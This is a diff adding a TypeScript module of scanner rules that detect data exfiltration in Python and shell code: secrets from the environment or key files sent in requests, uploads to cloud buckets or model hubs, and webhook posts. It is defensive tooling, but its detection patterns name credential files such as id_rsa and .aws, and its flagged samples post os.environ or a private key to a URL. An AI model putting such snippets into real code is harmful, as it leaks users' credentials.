@@ -1,0 +1,128 @@
+import { anyOf } from '../syntax/any-of.ts'
+import type { Call } from '../syntax/python.ts'
+import type { Unit } from '../unit.ts'
+import { callsWhere, commandsWhere, hitOf, isProgram } from './places.ts'
+import { type Hit, python, type Rule, shell } from './rule.ts'
+
+/** What only this machine should know: the whole environment, secrets by their name, key files. */
+const SECRET_SOURCE = anyOf(
+  '',
+  /\bos\.environ\b(?!\s*[[.])|\bdict\(os\.environ/,
+  /(?:os\.environ(?:\.get)?|os\.getenv)\s*[[(]\s*["'][^"']*(?:SECRET|PASSWORD|TOKEN|KEY)[^"']*["']/,
+  /["'][^"']*(?:\.ssh\/|\.aws\/|\.kube\/config|\.netrc|id_rsa|\.databrickscfg|\.env)["']/,
+  /["'][^"']*(?:\.ssh|\.aws)\/[^"']*["']/,
+)
+const SENDS = anyOf(
+  '',
+  /^(?:requests|httpx|aiohttp|urllib\.request|urllib3|http\.client)\.(?:\w+\.)*(?:post|put|patch|get|request|urlopen|Request)$/,
+  /^\?\.(?:post|put|sendall)$|(?:^|\.)(?:session|client|http|sock|s)\.(?:post|put|patch|sendall)$/,
+)
+/** Where a secret belongs: in the header that logs in. */
+const LOGIN = /\b(?:headers|auth|cert|cookies)\s*=/
+
+/** Calls that send what came from a source in the same function, by way of any number of names. */
+function flows(unit: Unit): Hit[] {
+  const { calls, assignments } = unit.python
+  return calls.filter((call) => SENDS.test(call.name) && sends(call)).map(hitOf)
+
+  function sends(call: Call): boolean {
+    const tainted = new Set<string>()
+    let grew = true
+    while (grew) {
+      grew = false
+      for (const { names, text, scope } of assignments) {
+        if (scope !== call.scope && scope !== -1) continue
+        if (!SECRET_SOURCE.test(text) && !mentions(text, tainted)) continue
+        for (const name of names) {
+          if (tainted.has(name)) continue
+          tainted.add(name)
+          grew = true
+        }
+      }
+    }
+    return call.args.some(({ name, text }) => !LOGIN.test(`${name}=`) && (SECRET_SOURCE.test(text) || mentions(text, tainted)))
+  }
+}
+
+const mentions = (text: string, names: ReadonlySet<string>): boolean =>
+  (text.match(/[A-Za-z_][\w.]*/g) ?? []).some((word) => names.has(word) || names.has(word.split('.')[0] ?? ''))
+
+const UPLOADS = anyOf(
+  '',
+  /(?:^|\.)(?:upload_file|upload_fileobj|put_object|upload_blob|upload_from_filename|upload_folder|push_to_hub)$/,
+  /^mlflow\.(?:sagemaker|azureml)\.\w+$/,
+)
+
+/** What leaves the machine. */
+export const FLOWS: readonly Rule[] = [
+  {
+    id: 'exfiltration/secret',
+    category: 'DATA_EXFILTRATION',
+    severity: 'critical',
+    confidence: 'medium',
+    cwe: 200,
+    title: 'Secrets of the machine are sent somewhere',
+    why: 'What was read from the environment or a key file goes, in the same function, into the body or address of a request.',
+    means: 'Whoever answers there has the secret; the address of a request is in logs besides.',
+    recommendation: 'Send no secret but the one that logs in there, in a header.',
+    languages: ['python'],
+    hints: ['environ', 'getenv', '.ssh', '.aws', '.kube', '.netrc', 'id_rsa', '.databrickscfg', '.env'],
+    find: flows,
+    bad: [
+      python(
+        'import os, requests\ndef report():\n    data = dict(os.environ)\n    body = {"d": data}\n    requests.post(URL, json=body)',
+        5,
+      ),
+      python('import requests\ndef f():\n    key = open("/srv/x/.ssh/id_rsa").read()\n    requests.post(URL, data=key)', 4),
+    ],
+    good: [
+      python('import os, requests\ndef f():\n    token = os.environ["API_TOKEN"]\n    requests.post(URL, headers={"X": token}, json={})'),
+      python('import os, requests\ndef f():\n    key = os.getenv("API_KEY")\ndef g():\n    requests.post(URL, data=body)'),
+    ],
+  },
+  {
+    id: 'exfiltration/upload',
+    category: 'DATA_EXFILTRATION',
+    severity: 'low',
+    confidence: 'medium',
+    cwe: 201,
+    title: 'Files are uploaded to a service outside',
+    why: 'A model or data goes to a bucket, a hub or a cloud’s model service.',
+    means: 'What is in them leaves, training data that a model kept included.',
+    recommendation: 'Name the targets that are allowed, and let nothing else out (egress rules).',
+    languages: ['python', 'shell'],
+    hints: ['upload', 'put_object', 'push_to_hub', 'sagemaker', 'azureml', 's3 '],
+    find: (unit) =>
+      unit.language === 'python'
+        ? callsWhere(({ name }) => UPLOADS.test(name))(unit)
+        : commandsWhere(
+            (words) =>
+              (isProgram(words, 'aws') &&
+                words[1] === 's3' &&
+                /^(?:cp|sync)$/.test(words[2] ?? '') &&
+                /^s3:/.test(words.filter((word) => !word.startsWith('-')).at(-1) ?? '')) ||
+              (isProgram(words, 'mlflow') && /^(?:sagemaker|azureml)$/.test(words[1] ?? '')),
+          )(unit),
+    bad: [
+      python('s3 = boto3.client("s3")\ns3.upload_file("m.onnx", "bucket", "m")', 2),
+      shell('mlflow sagemaker build-and-push-container'),
+    ],
+    good: [python('s3.download_file("bucket", "m", "m.onnx")'), shell('aws s3 cp s3://bucket/m .')],
+  },
+  {
+    id: 'exfiltration/webhook',
+    category: 'DATA_EXFILTRATION',
+    severity: 'low',
+    confidence: 'medium',
+    cwe: 201,
+    title: 'Results are sent to a chat or a webhook',
+    why: 'A request goes to an address that is called a webhook.',
+    means: 'Metrics, names and errors leave to who reads the channel.',
+    recommendation: 'Say what is sent, leave data and traces of errors out, and keep the address secret.',
+    languages: ['python'],
+    hints: ['ebhook', 'EBHOOK'],
+    find: callsWhere((call) => /(?:^|\.)(?:post|urlopen|request)$/.test(call.name) && /webhook/i.test(call.args[0]?.text ?? '')),
+    bad: [python('requests.post(SLACK_WEBHOOK_URL, json={"text": str(error)})')],
+    good: [python('requests.post(url, json={"text": "done"})')],
+  },
+]
